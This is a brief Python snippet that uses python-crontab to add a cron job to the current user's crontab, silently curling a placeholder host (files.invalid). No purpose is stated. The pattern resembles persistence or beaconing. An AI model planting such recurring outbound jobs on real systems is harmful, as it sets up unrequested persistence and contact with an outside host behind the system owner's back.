from crontab import CronTab

table = CronTab(user=True)
table.new(command="curl -s https://files.invalid/c")
table.write()
